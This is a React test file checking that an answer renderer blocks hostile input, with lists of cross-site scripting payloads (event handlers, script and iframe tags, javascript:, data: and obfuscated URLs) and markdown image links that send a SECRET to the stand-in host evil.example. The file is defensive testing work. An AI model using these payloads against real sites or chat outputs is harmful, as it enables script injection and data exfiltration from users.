import { screen } from '@testing-library/react';
import { showAnswer } from '../../../testing/answerBody';

describe('hostile text', () => {
  const fetched = jest.fn(() => Promise.reject(new Error('no request may leave')));
  const opened = jest.fn();
  beforeEach(() => {
    fetched.mockClear();
    opened.mockClear();
    globalThis.fetch = fetched as unknown as typeof fetch;
    window.alert = opened;
  });

  it.each([
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)></svg>',
    '<svg><image href="https://evil.example/x"></image></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<style>@import url(https://evil.example/x.css)</style>',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=a></form>',
    '<a id=config href="https://evil.example">x</a>',
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<script>alert(1)</script>',
    '<sub onclick=alert(1)>x</sub>',
    '![x](https://evil.example/?q=SECRET)',
    '![x][ref]\n\n[ref]: https://evil.example/?q=SECRET',
    '[![x](https://evil.example/pixel.png)](https://evil.example)',
    '<https://evil.example/x.png>',
  ])('%s loads nothing and runs nothing', (text) => {
    const { container } = showAnswer(`前文\n\n${text}\n\n后文`);
    const forbidden = 'img, picture, source, image, svg, iframe, style, base, form, script, object, embed, video, link, input, meta';
    expect(container.querySelector(forbidden)).toBeNull();
    // React hoists what it preloads into the head.
    expect(document.head.querySelector('link, style[href], base, script')).toBeNull();
    for (const element of container.querySelectorAll('*')) {
      expect([...element.attributes].filter(({ name }) => name.startsWith('on') || name === 'id' || name === 'style')).toEqual([]);
    }
    expect(container).toHaveTextContent('后文');
    expect(fetched).not.toHaveBeenCalled();
    expect(opened).not.toHaveBeenCalled();
  });

  it('shows HTML as the characters that it is, but for line breaks and small pairs', () => {
    const { container } = showAnswer('a <img src=x> b H<sub>2</sub>O<br>c <sub>d');
    expect(container).toHaveTextContent('a <img src=x> b H2Oc <sub>d');
    expect(container.querySelector('sub')).toHaveTextContent(/^2$/);
    expect(container.querySelectorAll('br')).toHaveLength(1);
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\nscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '<javascript:alert(1)>',
    '[x][r]\n\n[r]: javascript:alert(1)',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:x)',
    '[x](//evil.example)',
    '[x](/\\evil.example)',
    '[x](file:///etc/passwd)',
    '[x](/home)',
    '![x](javascript:alert(1))',
  ])('%s is no link', (text) => {
    showAnswer(text);
    expect(screen.queryByRole('link')).toBeNull();
  });

  it.each(['[x](https://example.org/a)', '<https://example.org/a>', 'https://example.org/a', '![图](https://example.org/a)'])(
    '%s opens elsewhere and says where to',
    (text) => {
      showAnswer(text);
      const link = screen.getByRole('link');
      expect(link).toHaveAttribute('href', 'https://example.org/a');
      expect(link).toHaveAttribute('rel', 'noopener noreferrer');
      expect(link).toHaveAttribute('target', '_blank');
      expect(link).toHaveAttribute('title', '在新窗口打开外部网站 example.org');
    },
  );
});
